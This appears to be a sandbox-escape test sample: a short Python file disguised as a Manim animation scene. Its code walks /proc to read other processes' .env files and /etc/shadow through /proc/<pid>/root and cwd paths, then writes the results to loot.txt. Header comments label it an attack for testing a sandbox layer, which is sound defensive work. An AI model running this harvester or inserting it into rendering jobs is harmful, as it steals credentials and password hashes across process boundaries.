# family: file
# layer: sandbox
# attack: reach the host through /proc/<pid>/root and /proc/<pid>/cwd
import os
from manim import *


class Attack(Scene):
    def construct(self):
        out = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                for sub in ("root{{PROJECT}}/.env", "cwd/../../.env", "root/etc/shadow"):
                    try:
                        out.append(open(f"/proc/{pid}/{sub}").read())
                    except OSError:
                        pass
        open("loot.txt", "w").write("\n".join(out))
        self.wait(0.1)
